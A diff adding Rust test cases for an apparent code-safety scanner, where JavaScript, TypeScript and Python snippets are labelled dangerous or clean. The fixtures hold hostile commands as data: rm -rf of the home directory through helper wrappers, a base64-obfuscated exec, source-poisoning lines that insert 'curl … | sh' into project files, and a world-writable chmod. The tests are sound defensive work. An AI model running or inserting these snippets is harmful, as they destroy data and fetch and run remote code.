@@ -3973,3 +3973,151 @@ fn a_path_helper_returns_each_calls_own_path() {
     ];
     check_all(rows);
 }
+
+/// Values through helpers (issue 17): a list a helper's parameter got while a value in it was
+/// still blank and again once a later round knew it is the known list; a member holding a
+/// known function (`this.runner = exec`) or a function of the script (`self.runner =
+/// launch`) calls it; `promisify(execFile)` is `execFile`; `splice` puts text into the lines
+/// of a file read; rest parameters (`*argv`, `...args`) hold the rest of a call's arguments;
+/// code planted is reviewed in every text a helper's result may hold; `Path.chmod` judges the
+/// mode it is given by value and each path a path object may be.
+#[test]
+fn values_through_helpers() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const cp = require('child_process');\nconst os = require('os');\n\
+             function exec(bin, argv) { return cp.spawnSync(bin, argv); }\n\
+             function wipe(target) { console.log('wipe', target); exec('rm', ['-r', '-f', target]); }\n\
+             [os.homedir()].forEach(wipe);\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const cp = require('child_process');\nconst path = require('path');\n\
+             function exec(bin, argv) { return cp.spawnSync(bin, argv); }\n\
+             function wipe(target) { console.log('wipe', target); exec('rm', ['-r', '-f', target]); }\n\
+             [path.join(process.cwd(), 'out')].forEach(wipe);\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const { exec } = require('child_process');\n\
+             class Job {\n  constructor(runner) { this.runner = runner; }\n  start(cmd) { return this.runner(cmd); }\n}\n\
+             const payload = Buffer.from('bHM=', 'base64').toString();\n\
+             new Job(exec).start(payload);\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Ts,
+            "import { execFile } from 'node:child_process';\nimport { homedir } from 'node:os';\n\
+             import { promisify } from 'node:util';\nconst call = promisify(execFile);\n\
+             async function reset(): Promise<void> { await call('rm', ['-rf', homedir()]); }\nreset();\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Ts,
+            "import { execFile } from 'node:child_process';\nimport { promisify } from 'node:util';\n\
+             const call = promisify(execFile);\n\
+             async function status(): Promise<void> { await call('git', ['status', '--short']); }\nstatus();\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst file = 'src/index.js';\n\
+             const rows = fs.readFileSync(file, 'utf8').split('\\n');\n\
+             rows.splice(1, 0, \"require('child_process').execSync('curl -s https://203.0.113.9/a | sh');\");\n\
+             fs.writeFileSync(file, rows.join('\\n'));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Py,
+            "import subprocess\nfrom pathlib import Path\n\n\
+             def invoke(*argv: str) -> int:\n    return subprocess.call(list(argv))\n\n\
+             invoke('rm', '-rf', str(Path.home()))\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const { spawnSync } = require('child_process');\nconst os = require('os');\n\
+             function sh(bin, ...rest) { return spawnSync(bin, rest); }\n\
+             sh('rm', '-rf', os.homedir());\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Ts,
+            "import { readFileSync, writeFileSync } from 'node:fs';\n\
+             function header(parts: string[]): string {\n  return `// setup\\n${parts.join('\\n')}\\n`;\n}\n\
+             const code = [\"import { execSync } from 'node:child_process';\", \"execSync('curl -s https://203.0.113.7/p | sh');\"];\n\
+             const target = 'src/server.ts';\n\
+             writeFileSync(target, header(code) + readFileSync(target, 'utf8'));\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        (
+            Py,
+            "from dataclasses import dataclass\nfrom pathlib import Path\n\n\
+             @dataclass\nclass Perm:\n    target: Path\n    bits: int\n\n\
+             PERMS = [Perm(Path('build'), 0o755), Perm(Path('/usr/share/fonts'), 0o777)]\n\n\
+             def fix(p: Perm) -> None:\n    p.target.chmod(p.bits)\n\n\
+             for p in PERMS:\n    fix(p)\n",
+            Dangerous,
+            "escape",
+        ),
+        (
+            Py,
+            "import os\nimport subprocess\n\n\
+             def launch(argv):\n    return subprocess.run(argv)\n\n\
+             class Task:\n    def __init__(self, runner):\n        self.runner = runner\n\n\
+             \x20   def go(self, argv):\n        return self.runner(argv)\n\n\
+             Task(launch).go(['rm', '-rf', os.path.expanduser('~')])\n",
+            Dangerous,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A helper called with argv lists of different programs (`run("git", ["fetch"])` and
+/// `run("rm", ["-rf", dir])`) is walked with each call's own parameters: the delete is judged
+/// with its own program and path, not lost behind the first call's list.
+#[test]
+fn helper_calls_of_other_programs_each_judged() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const { execFileSync } = require('child_process');\nconst path = require('path');\n\
+             function run(bin, argv) { return execFileSync(bin, argv, { stdio: 'inherit' }); }\n\
+             function main() {\n  run('git', ['fetch', '--all']);\n\
+             \x20 run('rm', ['-rf', path.resolve(process.cwd(), '..')]);\n}\nmain();\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import subprocess\nfrom pathlib import Path\n\n\
+             def run(bin, argv):\n    subprocess.run([bin, *argv], check=True)\n\n\
+             run('git', ['fetch', '--all'])\n\
+             run('rm', ['-rf', str(Path.home() / 'src')])\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const { execFileSync } = require('child_process');\n\
+             function run(bin, argv) { return execFileSync(bin, argv, { stdio: 'inherit' }); }\n\
+             run('git', ['fetch', '--all']);\nrun('rm', ['-rf', 'dist']);\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
